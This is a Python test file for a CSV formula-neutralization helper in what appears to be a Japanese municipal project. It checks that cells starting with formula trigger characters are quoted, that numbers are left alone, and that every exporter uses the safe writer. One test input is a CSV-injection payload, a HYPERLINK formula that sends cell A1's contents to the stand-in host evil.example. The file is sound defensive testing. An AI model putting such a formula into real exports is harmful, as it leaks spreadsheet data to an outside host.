"""CSV formula neutralization (common.csv_safe): each trigger, numbers left alone, and every CSV
writer of the project going through it."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from common import csv_safe

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


@pytest.mark.parametrize("text", [HYPERLINK, "+81 467-00-0000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-",
                                  "=1"])
def test_each_trigger_character_is_written_as_text(text):
    out = io.StringIO()
    csv_safe.writer(out).writerow(["団体", text])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["団体", "'" + text]
    assert csv_safe.restore(row[1]) == text


@pytest.mark.parametrize("value", ["茅ヶ崎市", "0467-00-0000", "'quoted", "a=b", " =1", "", "１＋１"])
def test_ordinary_text_is_written_as_it_is(value):
    assert csv_safe.cell(value) == value and csv_safe.restore(value) == value


@pytest.mark.parametrize(("value", "written"), [(-1500, -1500), (3.5, 3.5), (Decimal("-12.50"), Decimal("-12.50")),
                                                ("-1500", "-1500"), ("-12.5", "-12.5"), ("42", "42"), (None, ""),
                                                (True, "True")])
def test_genuine_numbers_stay_numbers(value, written):
    # A negative amount is no formula: prefixing it would make it text that no longer sums.
    assert csv_safe.cell(value) == written


def test_every_csv_writer_of_the_project_is_the_safe_one():
    """An export that calls csv.writer directly would bypass the neutralization."""
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(ROOT)) for package in ("config", "common", "permissions", "nodes", "emergency",
                                                             "sync", "hub", "deploy")
                 for path in (ROOT / package).rglob("*.py")
                 if path.name != "csv_safe.py" and direct.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
